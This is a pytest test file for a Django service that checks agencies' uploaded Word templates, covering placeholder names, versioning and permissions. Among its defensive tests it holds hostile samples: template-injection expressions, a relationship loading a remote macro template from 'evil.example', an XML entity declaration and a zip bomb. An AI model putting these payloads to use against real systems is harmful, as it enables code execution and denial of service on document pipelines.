"""An agency's own Word templates: which files are taken, which names they may use, what a paper looks like in them."""

import io
import zipfile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from classification.workflow import PaperKind, State
from documents.assembling import ASSEMBLERS
from documents.content import Decision
from documents.models import IssuedDocument, WordTemplate
from documents.services.word_templates import allowed_names, keep_template, sample_copy, template_for, word_copy
from documents.word import examine, fill, names_for
from documents.word.reading import BIGGEST_FILE

pytestmark = pytest.mark.django_db
ALLOWED = [name.word for name in names_for(Decision)]


def docx(*paragraphs: str, header: str = "", table: tuple[str, ...] = ()) -> bytes:
    """A Word file; "¦" in a paragraph cuts it into runs, as Word does where a word was corrected."""
    document = Document()
    for text in paragraphs:
        paragraph = document.add_paragraph()
        for run in text.split("¦"):
            paragraph.add_run(run).bold = True
    if header:
        document.sections[0].header.paragraphs[0].text = header
    if table:
        for cell, text in zip(document.add_table(1, len(table)).rows[0].cells, table, strict=True):
            cell.text = text
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(content: bytes, changes: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, text in changes.items():
            new.writestr(name, text)
    return out.getvalue()


def words_of(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    header = [paragraph.text for paragraph in document.sections[0].header.paragraphs]
    return "\n".join([*header, *(paragraph.text for paragraph in document.paragraphs), *cells])


@pytest.fixture
def decided(dossier_in, complete, ha, sign_step) -> IssuedDocument:
    sign_step(complete(dossier_in(State.AWAITING_APPROVAL)), "approve", ha)
    return IssuedDocument.objects.get()


@pytest.fixture
def brought(ministry, boss):
    def bring(content: bytes, kind: str = PaperKind.DECISION_06, by=None) -> WordTemplate:
        return keep_template(organisation=ministry, kind=kind, filename="mau.docx", content=content, by=by or boss)

    return bring


# ---------------------------------------------------------------------- which files are taken
def test_names_are_found_wherever_they_stand_and_however_word_cut_them():
    content = docx(
        "Số: {{ so_¦ky_hieu }}", "Hệ thống {¦{ ten_he_thong }¦}", header="{{ co_quan_ban_hanh }}",
        table=("{{cap_do}}", "{{ nguoi_ky }}"),
    )  # fmt: skip
    found = examine(content, ALLOWED)
    assert found.problems == ()
    assert found.names == ("cap_do", "co_quan_ban_hanh", "nguoi_ky", "so_ky_hieu", "ten_he_thong")


def test_an_unknown_name_is_refused_by_its_name():
    found = examine(docx("{{ ten_he_thong }} {{ luong_thang }} {{ ly_do }}"), ALLOWED)
    assert found.problems == ("Tên không có trong danh sách được dùng: {{ luong_thang }}, {{ ly_do }}.",)


@pytest.mark.parametrize(
    "text",
    [
        "{% for x in noi_nhan %}{{ x }}{% endfor %}", "{{ ten_he_thong.__class__ }}", "{{ ten_he_thong|upper }}",
        "{{ 7 * 7 }}", "{{ cycler() }}", "{%p if cap_do %}", "{# ghi chú #}", "{{ noi_nhan[0] }}", "{{ 'chữ' }}",
        "{{ ten_he_thong if cap_do else nguoi_ky }}",
    ],
)  # fmt: skip
def test_anything_but_a_name_is_refused(text):
    [problem] = examine(docx(text), ALLOWED).problems
    assert "Chỉ dùng tên trong ngoặc nhọn đôi" in problem


@pytest.mark.parametrize("text", ["{{ ten_he_thong", "{{ tên hệ thống }}", "{{ }}"])
def test_broken_braces_are_told(text):
    assert "ngoặc nhọn đôi" in examine(docx(text), ALLOWED).problems[0]


def test_a_file_without_a_name_is_no_template():
    assert examine(docx("Quyết định"), ALLOWED).problems[0].startswith("Mẫu chưa có tên nào")


@pytest.mark.parametrize(
    "content",
    [b"", b"%PDF-1.7", b"PK\x03\x04 broken", b"\xd0\xcf\x11\xe0 an old .doc", docx("{{ cap_do }}")[:900]],
    ids=["empty", "pdf", "broken zip", "old doc", "cut"],
)
def test_what_is_no_word_file_is_refused(content):
    assert examine(content, ALLOWED).problems == (
        "Đây không phải tệp Word (.docx). Tệp .doc cũ thì mở bằng Word và lưu thành .docx.",
    )


def test_macros_embedded_objects_outside_content_and_entities_are_refused():
    good = docx("{{ cap_do }}")
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    for changes, words in (
        ({"word/vbaProject.bin": b"x"}, "macro"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "đối tượng nhúng"),
        ({"word/_rels/settings.xml.rels": outside}, "nội dung ở nơi khác"),
        ({"word/settings.xml": entity}, "không phải tệp Word"),
        ({"word/document.xml": b"<w:document"}, "Không đọc được"),
    ):
        found = examine(repacked(good, changes), ALLOWED)
        assert any(words in problem for problem in found.problems), (words, found)


def test_a_bomb_and_a_file_too_large_are_refused():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b" " * (61 * 1024 * 1024))
    assert examine(bomb.getvalue(), ALLOWED).problems == ("Tệp nở ra quá lớn nên không được nhận.",)
    assert examine(b"P" * (BIGGEST_FILE + 1), ALLOWED).problems[0].startswith("Tệp lớn hơn 5 MB")


# ---------------------------------------------------------------------- what comes out
def test_markup_in_a_name_of_a_system_stays_words_and_lists_are_lines():
    content = docx("{{ ten_he_thong }}", "{{ noi_nhan }}")
    values = {"ten_he_thong": "Kho <w:p> & {{ nguoi_ky }}", "noi_nhan": ("- Như trên;", "- Lưu: VT.")}
    told = words_of(fill(content, values))
    assert "Kho <w:p> & {{ nguoi_ky }}" in told and "- Như trên;\n- Lưu: VT." in told
    assert fill(content, values) == fill(content, values)


def test_the_signed_decision_in_the_ministrys_template(decided, brought):
    template = brought(
        docx("Số: {{ so_ky_hieu }}", "{{ ngay_thang_nam }}", "{{ can_cu }}", "{{ ten_he_thong }}, cấp độ {{ cap_do }}",
             "{{ quyen_han_chuc_vu }}", "{{ nguoi_ky }}", header="{{ co_quan_ban_hanh }}")
    )  # fmt: skip
    assert template_for(decided) == template
    told = words_of(word_copy(decided, template))
    assert decided.number in told and "Hệ thống quản lý kiểm định xe cơ giới, cấp độ 3" in told
    assert "Nguyễn Minh Hà" in told and "Căn cứ Nghị định số 331/2026/NĐ-CP" in told and "{{" not in told


def test_every_kind_of_paper_has_names_and_a_sample(brought):
    for kind in PaperKind:
        if kind not in ASSEMBLERS:  # it comes in, or is no paper of a dossier
            continue
        names = allowed_names(kind)
        assert {"nguoi_ky", "co_quan_ban_hanh"} <= {name.word for name in names}, kind
        template = brought(docx(*(f"{{{{ {name.word} }}}}" for name in names)), kind)
        assert all(f"[{name.label}]" in words_of(sample_copy(template)) for name in names)


# ---------------------------------------------------------------------- versions and who
def test_the_newest_version_is_in_use_and_the_old_ones_are_kept(brought, ministry):
    first, second = brought(docx("{{ cap_do }}")), brought(docx("Cấp {{ cap_do }}"))
    first.refresh_from_db()
    assert (first.version, second.version) == (1, 2) and first.retired_at and not second.retired_at
    with pytest.raises(ValidationError, match="luong_thang"):
        brought(docx("{{ luong_thang }}"))
    assert WordTemplate.objects.filter(retired_at=None).get() == second


@pytest.mark.parametrize("who", ["hung", "trang", "ha", "an", "la"])
def test_only_administrators_bring_templates(who, brought, request):
    with pytest.raises(PermissionDenied, match="do người quản trị ở đó đưa vào"):
        brought(docx("{{ cap_do }}"), by=request.getfixturevalue(who))


def test_a_secret_file_is_refused(brought, ministry, boss):
    with pytest.raises(ValidationError, match="bí mật nhà nước"):
        keep_template(
            organisation=ministry, kind=PaperKind.DECISION_06, filename="mau.docx", by=boss,
            content=docx("TỐI MẬT", "{{ cap_do }}"),
        )  # fmt: skip


def test_binh_brings_a_template_on_the_page_and_hung_takes_the_word_copy(client, decided, ministry, boss, hung, la):
    page = reverse("documents:word_templates")
    client.force_login(boss)

    def post(content):
        file = SimpleUploadedFile("mau.docx", content)
        return client.post(page, {"organisation": ministry.pk, "kind": "mau-06", "file": file, "no_secret": "on"})

    refused = post(docx("{{ luong_thang }}"))
    assert refused.status_code == 422 and "{{ luong_thang }}" in refused.content.decode()
    assert post(docx("{{ ten_he_thong }}")).status_code == 302
    shown = client.get(page).content.decode()
    assert "đang dùng" in shown and "{{ ten_he_thong }}" in shown
    template = WordTemplate.objects.get()
    assert client.get(reverse("documents:word_template_file", args=[template.pk])).content == bytes(template.content)
    sample = client.get(reverse("documents:word_template_sample", args=[template.pk]))
    assert "[Tên hệ thống thông tin]" in words_of(sample.content)

    client.force_login(hung)
    copy = reverse("documents:word_copy", args=[decided.pk])
    assert copy in client.get(reverse("classification:dossier", args=[decided.dossier_id])).content.decode()
    answer = client.get(copy)
    assert answer["Content-Disposition"].startswith("attachment") and "kiểm định" in words_of(answer.content)
    assert client.get(page).status_code == 403
    client.force_login(la)
    assert client.get(copy).status_code == 404
    client.force_login(boss)
    client.post(reverse("documents:word_template_retire", args=[template.pk]))
    client.force_login(hung)
    assert client.get(copy).status_code == 404
